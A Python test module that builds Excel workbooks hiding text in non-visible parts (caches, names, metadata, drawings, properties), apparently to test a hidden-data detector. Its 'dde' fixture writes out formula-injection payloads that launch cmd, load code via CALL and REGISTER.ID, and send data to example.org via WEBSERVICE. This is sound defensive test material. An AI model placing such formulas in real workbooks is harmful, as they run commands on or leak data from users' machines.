# ruff: noqa: E501 - XML reads worst where it is broken
"""Workbooks of Excel's form that leak by what is stored in them and stands on no sheet."""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

from tests.leaks.books import DECLARATION, PACKAGE, SPREADSHEET, Book, Sheet
from tests.leaks.forms import Clean, Leak
from tests.leaks.workbooks import LEAKS as ON_SHEETS
from tests.leaks.workbooks import leak

_BEFORE = len(ON_SHEETS)
OFFICE = "application/vnd.openxmlformats-officedocument"
MICROSOFT = "http://schemas.microsoft.com/office/"


def place(variation: int, name: str) -> str:
    """A name for a part, which says nothing of what is in it."""
    return ("xl/{}", "xl/{}", "{}", "xl/deep/er/{}", "xl/x{}")[variation % 5].format(name)


@leak("pivot table over data that is gone", "DL115")
def pivot(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """The cache of a pivot table keeps every record."""
    shared = f'<cacheField name="Name"><sharedItems><s v={quoteattr(words)}/></sharedItems></cacheField>'
    cache, records, table = (place(variation, name) for name in ("cache.xml", "records.xml", "pivot.xml"))
    inner = f'<cacheSource type="worksheet"><worksheetSource ref="A1:C9" sheet="Data"/></cacheSource><cacheFields count="1">{shared}</cacheFields>'
    book.add(cache, book.part("pivotCacheDefinition", inner), f"{SPREADSHEET}.pivotCacheDefinition+xml")
    book.relations.append(("rId90", "pivotCacheDefinition", f"/{cache}"))
    if variation % 2:
        book.add(
            records,
            book.part("pivotCacheRecords", f"<r><s v={quoteattr(words)}/></r>"),
            f"{SPREADSHEET}.pivotCacheRecords+xml",
        )
        book.relations.append(("rId91", "pivotCacheRecords", f"/{records}"))
    if variation % 3:
        book.workbook_after = '<pivotCaches><pivotCache cacheId="1" r:id="rId90"/></pivotCaches>'
        book.add(table, book.part("pivotTableDefinition", '<location ref="E1:F4"/>'), f"{SPREADSHEET}.pivotTable+xml")
        sheet.relations.append(("rId1", "pivotTable", f"/{table}"))


@leak("copy of another workbook", "DL115")
def external(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """The cache of a link to another workbook."""
    name = place(variation, "link.xml")
    if variation % 2:
        inner = f'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>{words}</v></cell></row></sheetData></sheetDataSet>'
    else:
        inner = f"<sheetNames><sheetName val={quoteattr(words)}/></sheetNames>"
    book.add(
        name, book.part("externalLink", f"<externalBook>{inner}</externalBook>"), f"{SPREADSHEET}.externalLink+xml"
    )
    book.relations.append(("rId90", "externalLink", f"/{name}"))
    if variation % 3:
        book.workbook_after = '<externalReferences><externalReference r:id="rId90"/></externalReferences>'
        book.raw(sheet, 5, 1, "", "<f>[1]Data!A1</f><v>3</v>")


def stored(
    name: str, kind: str, media_type: str, codes: tuple[str, ...], *, on_sheet: bool = False, root: str = "x"
) -> None:
    """Enter a way of leaking by a part of its own, of this kind and media type."""

    @leak(name, *codes)
    def fill(book: Book, sheet: Sheet, variation: int, words: str) -> None:
        part = place(variation, f"part{variation}.{'bin' if media_type.endswith('bin') else 'xml'}")
        inner = (f"<a>{words}</a>", f"<a b={quoteattr(words)}/>", f"<a><b>1</b><c>{words}</c></a>")[variation % 3]
        content = f'{DECLARATION}<{root} xmlns="urn:example:{variation}">{inner}</{root}>'
        book.add(part, content.encode() if media_type.endswith("bin") else content, media_type)
        to = sheet.relations if on_sheet or (variation % 2 and kind in {"customProperty", "image"}) else book.relations
        to.append(("rId80", kind, f"/{part}"))


RELATIONS_2017 = f"{MICROSOFT}2017/06/relationships/"
for _row in (
    ("data model", f"{MICROSOFT}2007/relationships/powerPivotData".replace("2007", "2011"), "application/vnd.openxmlformats-officedocument.model+data", ("DL115",)),
    ("connections to a database", "connections", f"{SPREADSHEET}.connections+xml", ("DL115",)),
    ("custom XML", "customXml", "application/xml", ("DL115",)),
    ("mapped XML", "xmlMaps", "application/xml", ("DL115",)),
    ("slicer cache", f"{MICROSOFT}2007/relationships/slicerCache", "application/vnd.ms-excel.slicerCache+xml", ("DL115",)),
    ("timeline cache", f"{MICROSOFT}2011/relationships/timelineCache", "application/vnd.ms-excel.timelineCache+xml", ("DL115",)),
    ("persons who commented", f"{RELATIONS_2017.replace('06', '10')}person", "application/vnd.ms-excel.person+xml", ("DL103",)),
    ("earlier changes", "revisionHeaders", f"{SPREADSHEET}.revisionHeaders+xml", ("DL117",)),
    ("users of a shared workbook", "usernames", f"{SPREADSHEET}.userNames+xml", ("DL117",)),
    ("rich values", f"{RELATIONS_2017}rdRichValue", "application/vnd.ms-excel.rdrichvalue+xml", ("DL115",)),
    ("metadata of cells", "sheetMetadata", f"{SPREADSHEET}.sheetMetadata+xml", ("DL115",)),
    ("macros", f"{MICROSOFT}2006/relationships/vbaProject", "application/vnd.ms-office.vbaProject", ("DL100",)),
    ("web add-in", f"{MICROSOFT}2011/relationships/webextensiontaskpanes", "application/vnd.ms-office.webextensiontaskpanes+xml", ("DL100",)),
    ("custom ribbon", f"{MICROSOFT}2007/relationships/ui/extensibility", "application/xml", ("DL100",)),
    ("volatile data", "volatileDependencies", f"{SPREADSHEET}.volatileDependencies+xml", ("DL115",)),
    ("part of an unknown kind", "urn:example:unknown", "application/x-unknown", ("DL116",)),
):  # fmt: skip
    stored(*_row)
for _row in (
    ("comments", "comments", f"{SPREADSHEET}.comments+xml", ("DL103",)),
    ("threaded comments", f"{RELATIONS_2017.replace('06', '10')}threadedComment", "application/vnd.ms-excel.threadedcomments+xml", ("DL103",)),
    ("boxes of notes", "vmlDrawing", f"{OFFICE}.vmlDrawing", ("DL116",)),
    ("query table", "queryTable", f"{SPREADSHEET}.queryTable+xml", ("DL115",)),
    ("slicer", f"{MICROSOFT}2007/relationships/slicer", "application/vnd.ms-excel.slicer+xml", ("DL115",)),
    ("settings of a printer", "printerSettings", f"{SPREADSHEET}.printerSettings.bin", ("DL107",)),
    ("property of a sheet", "customProperty", f"{SPREADSHEET}.customProperty.bin", ("DL107",)),
    ("embedded file", "package", f"{SPREADSHEET}.sheet.bin", ("DL105",)),
    ("OLE object", "oleObject", f"{OFFICE}.oleObject.bin", ("DL105",)),
    ("ActiveX control", "control", "application/vnd.ms-office.activeX+xml", ("DL100",)),
    ("form control", "ctrlProp", "application/vnd.ms-excel.controlproperties+xml", ("DL100",)),
):  # fmt: skip
    stored(*_row, on_sheet=True)


@leak("macro sheet", "DL100")
def macro_sheet(book: Book, _: Sheet, variation: int, words: str) -> None:
    """A sheet of Excel 4 macros, hidden or not."""
    kind = ("xlMacrosheet", "xlIntlMacrosheet")[variation % 2]
    book.add(
        "xl/m.xml", book.part("worksheet", f"<sheetData/><a>{words}</a>"), "application/vnd.ms-excel.macrosheet+xml"
    )
    book.relations.append(("rId70", f"{MICROSOFT}2006/relationships/{kind}", "/xl/m.xml"))


@leak("chart sheet or dialogue sheet", "DL116")
def other_sheet(book: Book, _: Sheet, variation: int, words: str) -> None:
    """A sheet that is no table."""
    sheet = book.sheet(words if variation > 7 else "Chart")
    sheet.kind = ("chartsheet", "dialogsheet")[variation % 2]
    sheet.after = f"<x>{words}</x>"


@leak("part that nothing refers to", "DL108")
def orphan(book: Book, _: Sheet, variation: int, words: str) -> None:
    """Something left over in the package."""
    book.add(place(variation, "left.xml"), f"<a>{words}</a>".encode(), "application/xml")
    if variation % 2:
        book.add("xl/media/old.txt", words.encode(), ".txt")
        book.types[".txt"] = "text/plain"
        del book.types["xl/media/old.txt"]


@leak("string that no cell uses", "DL108")
def unused_string(book: Book, _: Sheet, variation: int, words: str) -> None:
    """What was in a cell before."""
    inner = (
        f"<t>{words}</t>",
        f"<r><t>{words}</t></r>",
        f"<r><rPr><b/></rPr><t>{words[:9]}</t></r><r><t>{words[9:]}</t></r>",
    )[variation % 3]
    book.strings.insert(0 if book.variation in {1, 6} else len(book.strings), inner)


NAMES = (
    '<definedName name="Secret">"{0}"</definedName>',
    '<definedName name="Secret">{{"{0}",2}}</definedName>',
    '<definedName name="Secret" hidden="1">"{0}"</definedName>',
    '<definedName name="Secret" localSheetId="0">IF(TRUE,1,"{0}")</definedName>',
    '<definedName name="Secret" comment="{0}">Figures!$A$1</definedName>',
    "<definedName name=\"Old\">'{0}'!#REF!</definedName>",
    '<definedName name="Old">[1]{1}!$A$1</definedName>',
    "<definedName name=\"Old\">'C:\\files\\[{0}.xlsx]Data'!$A$1</definedName>",
    '<definedName name="_xlnm.Print_Area" localSheetId="0">"{0}"</definedName>',
    '<definedName name="Secret" description="{0}" help="{0}">Figures!$A$1</definedName>',
)


@leak("name that stands for words", "DL115", "DL109")
def names(book: Book, _: Sheet, variation: int, words: str) -> None:
    """Defined names with literals, arrays, comments, broken references, other books."""
    entry = NAMES[variation].format(escape(words), words.split(maxsplit=1)[0])
    book.workbook_after = f"<definedNames>{entry}</definedNames>"


@leak("hidden name", "DL115")
def hidden_name(book: Book, _: Sheet, variation: int, words: str) -> None:
    """A name that the manager of names does not show."""
    name = words.replace(" ", "_")
    book.workbook_after = f'<definedNames><definedName name="{name}" hidden="{book.true()}">Figures!$A${1 + variation}</definedName></definedNames>'


@leak("list of what may be entered", "DL115")
def entry_list(_: Book, sheet: Sheet, variation: int, words: str) -> None:
    """Values that can be chosen, and stand in no cell."""
    values = (f"{words},Yes", f"Yes,No,{words}", words)[variation % 3]
    inner = f"<formula1>{escape(chr(34) + values + chr(34))}</formula1>"
    hidden = ' showDropDown="1"' if variation % 2 else ""
    sheet.after = f'<dataValidations count="1"><dataValidation type="list" sqref="A{5 + variation}"{hidden}>{inner}</dataValidation></dataValidations>'


@leak("message for whoever enters something", "DL109")
def entry_message(_: Book, sheet: Sheet, variation: int, words: str) -> None:
    """The prompt or the error of a rule for entries."""
    name = ("prompt", "error", "promptTitle", "errorTitle")[variation % 4]
    entry = f'<dataValidation type="whole" sqref="A{5 + variation}" {name}={quoteattr(words)}><formula1>0</formula1></dataValidation>'
    sheet.after = f"<dataValidations>{entry}</dataValidations>"


@leak("header or footer of the printed page", "DL109")
def print_header(_: Book, sheet: Sheet, variation: int, words: str) -> None:
    """Words that stand on no screen."""
    name = ("oddHeader", "oddFooter", "evenHeader", "evenFooter", "firstHeader", "firstFooter")[variation % 6]
    text = ("&L{}", '&C&"Arial,Bold"&10{}', "&RPage &P of &N {}", "{}", "&L&D&C{}&R&F")[variation % 5].format(words)
    sheet.after = f"<headerFooter><{name}>{escape(text)}</{name}></headerFooter>"


@leak("scenario", "DL115")
def scenario(_: Book, sheet: Sheet, variation: int, words: str) -> None:
    """Other values for cells, and who entered them."""
    attribute = ("name", "comment", "user")[variation % 3]
    inner = f'<inputCells r="A2" val={quoteattr(words)}/>' if variation % 2 else '<inputCells r="A2" val="1"/>'
    sheet.after = f"<scenarios><scenario {attribute}={quoteattr(words)}>{inner}</scenario></scenarios>"


@leak("custom view", "DL115")
def custom_view(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A view that somebody kept."""
    guid = f"{{00000000-0000-0000-0000-00000000000{variation}}}"
    if variation % 2:
        book.workbook_after = (
            f'<customWorkbookViews><customWorkbookView name={quoteattr(words)} guid="{guid}"/></customWorkbookViews>'
        )
    else:
        inner = f"<headerFooter><oddHeader>{words}</oddHeader></headerFooter>"
        sheet.after = f'<customSheetViews><customSheetView guid="{guid}">{inner}</customSheetView></customSheetViews>'


LINKS = ("file:///C:/Users/{}/a.xlsx", "\\\\server\\share\\{}:x", "http://intranet/{}", "https://10.1.2.3/{}", "ftp://example.org/{}",
         "mailto:foi@example.org?subject={}", "https://name:{}@example.org/", "http://files.internal/{}", "https://localhost/{}",
         "ms-word:ofe|u|{}")  # fmt: skip


@leak("link to a file or an inner computer", "DL106")
def link(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A link that is not to a page of the web."""
    target = LINKS[variation].format(words.replace(" ", "%20"))
    if variation % 2:
        sheet.relations.append(("rId5", "hyperlink", target))
        sheet.after = '<hyperlinks><hyperlink ref="A2" r:id="rId5"/></hyperlinks>'
    else:
        book.raw(sheet, 6, 1, 't="str"', f"<f>{escape(f'HYPERLINK({chr(34)}{target}{chr(34)},A1)')}</f><v>Year</v>")


@leak("words of a link", "DL109")
def link_words(_: Book, sheet: Sheet, variation: int, words: str) -> None:
    """What only a pointer shows, or what stood in the cell before."""
    attribute = ("tooltip", "display")[variation % 2]
    sheet.relations.append(("rId5", "hyperlink", f"https://www.example.org/{variation}"))
    sheet.after = (
        f'<hyperlinks><hyperlink ref="A{2 + variation % 3}" r:id="rId5" {attribute}={quoteattr(words)}/></hyperlinks>'
    )


@leak("dynamic data exchange", "DL100")
def dde(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A formula that starts a program or fetches something."""
    formula = (
        "cmd|'/C calc {}'!A0", 'DDE("cmd","/C {}","x")', "msexcel|'{}'!x", 'WEBSERVICE("https://example.org/{}")', 'CALL("{}","x","J")',
        'RTD("x",,"{}")', "1+cmd|'{}'!A1", 'IMPORTXML("https://example.org/{}","//a")', 'REGISTER.ID("{}","x")', 'IMAGE("https://example.org/{}")',
    )[variation].format(words.replace(" ", ""))  # fmt: skip
    book.raw(sheet, 6, 1, "", f"<f>{escape(formula)}</f><v>0</v>")


@leak("formula that reads another workbook", "DL115")
def other_book(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A path inside a formula."""
    name = words.split(maxsplit=1)[0]
    formula = (f"'C:\\{name}\\[a.xlsx]Data'!A1", f"[{name}.xlsx]Data!A1", f"'\\\\server\\[{name}.xls]x'!A1", f"SUM([{variation}]{name}!A1:A3)",
               f"'file:///home/{name}/a.ods'#$Sheet1.A1")[variation % 5]  # fmt: skip
    book.raw(sheet, 6, 1, "", f"<f>{escape(formula)}</f><v>0</v>")


@leak("names of a table's columns", "DL115")
def table_columns(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A table without its header, or with another name than its header shows."""
    headers = variation % 2
    column = f'<tableColumn id="1" name={quoteattr(words)}/>'
    if variation % 3 == 2:
        column = f'<tableColumn id="1" name="Year" totalsRowLabel={quoteattr(words)}/>'
    inner = f'<tableColumns count="2">{column}<tableColumn id="2" name="Requests"/></tableColumns>'
    xmlns = book.namespace("spreadsheetml/2006/main")
    part = f'{DECLARATION}<table xmlns="{xmlns}" id="1" name="T" displayName="T" ref="A1:B4" headerRowCount="{headers}">{inner}</table>'
    book.add("xl/tables/table1.xml", part, f"{SPREADSHEET}.table+xml")
    sheet.relations.append(("rId8", "table", "/xl/tables/table1.xml"))
    sheet.after = '<tableParts count="1"><tablePart r:id="rId8"/></tableParts>'


@leak("filter inside a table", "DL114")
def table_filter(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A table with a filter that is set."""
    criteria = (
        f"<filters><filter val={quoteattr(words)}/></filters>",
        f"<customFilters><customFilter val={quoteattr(words)}/></customFilters>",
    )[variation % 2]
    inner = f'<autoFilter ref="A1:B4"><filterColumn colId="{variation % 2}">{criteria}</filterColumn></autoFilter><tableColumns count="2"><tableColumn id="1" name="Year"/><tableColumn id="2" name="Requests"/></tableColumns>'
    xmlns = book.namespace("spreadsheetml/2006/main")
    part = f'{DECLARATION}<table xmlns="{xmlns}" id="1" name="T" displayName="T" ref="A1:B4">{inner}</table>'
    book.add("xl/tables/table1.xml", part, f"{SPREADSHEET}.table+xml")
    sheet.relations.append(("rId8", "table", "/xl/tables/table1.xml"))
    sheet.after = '<tableParts count="1"><tablePart r:id="rId8"/></tableParts>'


def drawing(book: Book, sheet: Sheet, inner: str) -> None:
    """Draw something on a sheet."""
    names = f'xmlns:xdr="{book.namespace("drawingml/2006/spreadsheetDrawing")}" xmlns:a="{book.namespace("drawingml/2006/main")}" xmlns:r="{book.namespace("officeDocument/2006/relationships")}" xmlns:c="{book.namespace("drawingml/2006/chart")}"'
    book.add("xl/drawings/drawing1.xml", f"{DECLARATION}<xdr:wsDr {names}>{inner}</xdr:wsDr>", f"{OFFICE}.drawing+xml")
    sheet.relations.append(("rId9", "drawing", "/xl/drawings/drawing1.xml"))
    sheet.after += '<drawing r:id="rId9"/>'


def anchor(first: tuple[int, int], last: tuple[int, int], inner: str) -> str:
    """Something drawn between two corners, each a row and a column from 0."""
    marks = "".join(
        f"<xdr:{name}><xdr:col>{column}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{row}</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:{name}>"
        for name, (row, column) in (("from", first), ("to", last))
    )
    return f"<xdr:twoCellAnchor>{marks}{inner}<xdr:clientData/></xdr:twoCellAnchor>"


FRAME = '<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="Chart 1"{0}/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame>'


def chart(
    book: Book,
    sheet: Sheet,
    values: str,
    *,
    more: str = "",
    title: str = "",
    alternative: str = "",
    at: tuple[int, int] = (6, 0),
) -> None:
    """Draw a chart of columns."""
    drawing(book, sheet, anchor(at, (at[0] + 15, at[1] + 7), FRAME.format(alternative)))
    relations = book.namespace("officeDocument/2006/relationships/")
    book.add(
        "xl/drawings/_rels/drawing1.xml.rels",
        f'{DECLARATION}<Relationships xmlns="{PACKAGE}relationships"><Relationship Id="rId1" Type="{relations}chart" Target="../charts/chart1.xml"/></Relationships>',
    )
    names = f'xmlns:c="{book.namespace("drawingml/2006/chart")}" xmlns:a="{book.namespace("drawingml/2006/main")}" xmlns:r="{book.namespace("officeDocument/2006/relationships")}"'
    heading = (
        f"<c:title><c:tx><c:rich><a:bodyPr/><a:p><a:r><a:t>{title}</a:t></a:r></a:p></c:rich></c:tx></c:title>"
        if title
        else ""
    )
    series = f'<c:ser><c:idx val="0"/><c:order val="0"/>{values}</c:ser>'
    inner = f'<c:chart>{heading}<c:plotArea><c:layout/><c:barChart><c:barDir val="col"/>{series}<c:axId val="1"/></c:barChart></c:plotArea><c:plotVisOnly val="1"/></c:chart>{more}'
    book.add(
        "xl/charts/chart1.xml",
        f"{DECLARATION}<c:chartSpace {names}>{inner}</c:chartSpace>",
        f"{OFFICE}.drawingml.chart+xml",
    )


def cached(reference: str, kind: str, *values: object) -> str:
    """Values that a chart keeps beside where they stand."""
    points = "".join(f'<c:pt idx="{index}"><c:v>{value}</c:v></c:pt>' for index, value in enumerate(values))
    return f'<c:{kind}Ref><c:f>{reference}</c:f><c:{kind}Cache><c:ptCount val="{len(values)}"/>{points}</c:{kind}Cache></c:{kind}Ref>'


@leak("values kept in a chart", "DL115")
def chart_cache(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """Words or numbers that a chart keeps, though no cell has them any more."""
    number = int(words.rpartition(" ")[2]) * 100 + 7
    values = (
        f"<c:cat>{cached('Figures!$A$2:$A$4', 'str', words, 2022)}</c:cat>",
        f"<c:val>{cached('Figures!$B$2:$B$4', 'num', 702, number)}</c:val>",
        f"<c:tx>{cached('Figures!$B$1', 'str', words)}</c:tx>",
        f"<c:tx>{cached(f'&apos;[{words}.xlsx]x&apos;!$B$1', 'str', 'Requests')}</c:tx>",
        f'<c:val><c:numLit><c:ptCount val="1"/><c:pt idx="0"><c:v>{number}</c:v></c:pt></c:numLit></c:val>',
    )[variation % 5]
    chart(book, sheet, values, more='<c:externalData r:id="rId1"/>' if variation == 9 else "")


@leak("white words in a chart", "DL115")
def white_title(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A title in the colour of the paper, transparent or tiny."""
    white = (
        '<a:srgbClr val="FFFFFF"/>',
        '<a:schemeClr val="bg1"/>',
        '<a:srgbClr val="FDFDFD"/>',
        '<a:srgbClr val="000000"><a:alpha val="0"/></a:srgbClr>',
    )[variation % 4]
    properties = (
        f"<a:rPr><a:solidFill>{white}</a:solidFill></a:rPr>"
        if variation < 8
        else f'<a:rPr sz="{100 * (variation - 7)}"/>'
    )
    title = f"Requests</a:t></a:r><a:r>{properties}<a:t>{words}"
    chart(book, sheet, f"<c:val>{cached('Figures!$B$2:$B$4', 'num', 702)}</c:val>", title=title)


@leak("cells behind a chart", "DL101")
def covered(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """Words that a chart covers."""
    book.put(sheet, 8 + variation, 2 + variation % 4, words)
    chart(book, sheet, f"<c:val>{cached('Figures!$B$2:$B$4', 'num', 702, 655, 718)}</c:val>")


@leak("description of a chart", "DL109")
def alternative(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """An alternative text with words that stand nowhere else."""
    attribute = f" {('descr', 'title')[variation % 2]}={quoteattr(words)}"
    chart(
        book,
        sheet,
        f"<c:val>{cached('Figures!$B$2:$B$4', 'num', 702)}</c:val>",
        alternative=attribute,
        at=(6 + variation, 0),
    )


@leak("box of text, shape or picture", "DL116")
def shapes(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """Anything drawn that is no chart."""
    name = f'<xdr:cNvPr id="2" name="Box" descr={quoteattr(words)}/>'
    text = f"<xdr:txBody><a:bodyPr/><a:p><a:r><a:t>{words}</a:t></a:r></a:p></xdr:txBody>"
    inner = (
        f"<xdr:sp><xdr:nvSpPr>{name}<xdr:cNvSpPr/></xdr:nvSpPr>{text}</xdr:sp>",
        f"<xdr:pic><xdr:nvPicPr>{name}<xdr:cNvPicPr/></xdr:nvPicPr></xdr:pic>",
        f"<xdr:grpSp><xdr:sp><xdr:nvSpPr>{name}</xdr:nvSpPr>{text}</xdr:sp></xdr:grpSp>",
        f"<xdr:cxnSp><xdr:nvCxnSpPr>{name}</xdr:nvCxnSpPr></xdr:cxnSp>",
    )[variation % 4]
    drawing(book, sheet, anchor((6 + variation, 1), (9 + variation, 4), inner))


@leak("background picture", "DL116")
def background(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A picture behind or beside the cells."""
    book.add(f"xl/media/image{variation}.png", b"\x89PNG\r\n\x1a\n" + words.encode())
    book.types[".png"] = "image/png"
    sheet.relations.append(("rId4", "image", f"/xl/media/image{variation}.png"))
    if variation % 2:
        sheet.after = '<picture r:id="rId4"/>'


def core(**values: str) -> str:
    """The core properties."""
    names = f'xmlns:cp="{PACKAGE}metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    inner = "".join(
        f"<{name.replace('_', ':')}>{escape(value)}</{name.replace('_', ':')}>" for name, value in values.items()
    )
    return f"{DECLARATION}<cp:coreProperties {names}>{inner}</cp:coreProperties>"


CORE_TYPE = "application/vnd.openxmlformats-package.core-properties+xml"
EXTENDED = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"


@leak("names of authors", "DL107")
def author(book: Book, _: Sheet, variation: int, words: str) -> None:
    """People, a company, and words in the properties."""
    name = (
        "dc_creator",
        "cp_lastModifiedBy",
        "dc_description",
        "cp_keywords",
        "dc_subject",
        "cp_category",
        "dc_title",
        "cp_contentStatus",
    )
    if variation < 8:
        book.add("docProps/core.xml", core(**{name[variation]: words}), CORE_TYPE)
        book.root_relations.append(("rId2", f"{PACKAGE}relationships/metadata/core-properties", "docProps/core.xml"))
    else:
        inner = f"<{('Company', 'Manager')[variation - 8]}>{words}</{('Company', 'Manager')[variation - 8]}>"
        book.add(
            "docProps/app.xml",
            f'{DECLARATION}<Properties xmlns="{EXTENDED}">{inner}</Properties>',
            f"{OFFICE}.extended-properties+xml",
        )
        book.root_relations.append(("rId3", "extended-properties", "docProps/app.xml"))


@leak("names of sheets that are gone", "DL107")
def old_titles(book: Book, _: Sheet, variation: int, words: str) -> None:
    """The list of parts in the properties is of an earlier state."""
    titles = "".join(f"<vt:lpstr>{title}</vt:lpstr>" for title in (["Figures"] * (variation % 3) + [words]))
    inner = f'<TitlesOfParts><vt:vector size="2" baseType="lpstr">{titles}</vt:vector></TitlesOfParts>'
    names = 'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"'
    book.add(
        "docProps/app.xml",
        f'{DECLARATION}<Properties xmlns="{EXTENDED}" {names}>{inner}</Properties>',
        f"{OFFICE}.extended-properties+xml",
    )
    book.root_relations.append(("rId3", "extended-properties", "docProps/app.xml"))


@leak("properties of the organisation's own", "DL107")
def custom_properties(book: Book, _: Sheet, variation: int, words: str) -> None:
    """Custom properties, a label, a thumbnail."""
    kind, media_type = (
        ("custom-properties", f"{OFFICE}.custom-properties+xml"),
        (
            f"{MICROSOFT}2020/02/relationships/classificationlabels",
            "application/vnd.ms-office.classificationlabels+xml",
        ),
    )[variation % 2]
    book.add(f"docProps/p{variation}.xml", f"<p><a>{words}</a></p>".encode(), media_type)
    book.root_relations.append(("rId4", kind, f"docProps/p{variation}.xml"))


@leak("small picture of the first page", "DL110")
def thumbnail(book: Book, _: Sheet, variation: int, words: str) -> None:
    """A thumbnail of an earlier state."""
    suffix = ("jpeg", "png", "wmf", "emf")[variation % 4]
    book.add(f"docProps/thumbnail.{suffix}", words.encode())
    book.types[f".{suffix}"] = f"image/{suffix}"
    book.root_relations.append(("rId4", f"{PACKAGE}relationships/metadata/thumbnail", f"docProps/thumbnail.{suffix}"))


@leak("folder in which it was stored", "DL107")
def path(book: Book, _: Sheet, variation: int, words: str) -> None:
    """The path and the user's name that Excel writes into each workbook."""
    url = (
        f"C:\\Users\\{words}\\",
        f"\\\\server\\{words}\\",
        f"/Users/{words}/",
        f"https://example.sharepoint.com/{words}/",
    )[variation % 4]
    if variation == 9:
        book.workbook_before = f"<fileSharing userName={quoteattr(words)}/>"
        return
    inner = f'<x15ac:absPath xmlns:x15ac="{MICROSOFT}spreadsheetml/2010/11/ac" url={quoteattr(url)}/>'
    compatibility = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    book.workbook_before = f'<mc:AlternateContent xmlns:mc="{compatibility}"><mc:Choice Requires="x15" xmlns:x15="{MICROSOFT}spreadsheetml/2010/11/main">{inner}</mc:Choice></mc:AlternateContent>'


@leak("stored password", "DL115")
def password(book: Book, sheet: Sheet, variation: int, words: str) -> None:
    """A protection that keeps nobody from reading."""
    stored_value = (
        'password="CC1A"',
        'algorithmName="SHA-512" hashValue="aGFzaA==" saltValue="c2FsdA==" spinCount="100000"',
    )[variation % 2]
    if variation % 3 == 2:
        book.workbook_before = f"<workbookProtection {stored_value.replace('password', 'workbookPassword').replace('hashValue', 'workbookHashValue')}/>"
    else:
        sheet.after = f'<sheetProtection {stored_value} sheet="{book.true()}"/>'
    del words


@leak("names of styles", "DL109")
def style_names(book: Book, _: Sheet, variation: int, words: str) -> None:
    """A style of somebody's own, or a format that no cell has."""
    if variation % 2:
        book.styles.formats.append(f'"{words}"0')
    else:
        book.styles.more = f'<tableStyles count="1"><tableStyle name={quoteattr(words)} count="0"/></tableStyles>'


@leak("remarks in the XML", "DL101")
def remarks(_: Book, sheet: Sheet, variation: int, words: str) -> None:
    """Comments and instructions, which no program shows."""
    text = (f"<!--{words}-->", f"<?note {words}?>")[variation % 2]
    if variation % 3:
        sheet.after = text
    else:
        sheet.before = text


LEAKS: list[Leak] = ON_SHEETS[_BEFORE:]
del ON_SHEETS[_BEFORE:]
# The name that Excel gives to workbooks with programs.
LEAKS += [
    Leak(each.name, ".xlsm", each.codes, each.make) for each in LEAKS if each.name in {"macros", "macro sheet", "pivot"}
]
CLEAN: list[Clean] = []  # beside the others, in workbooks_clean
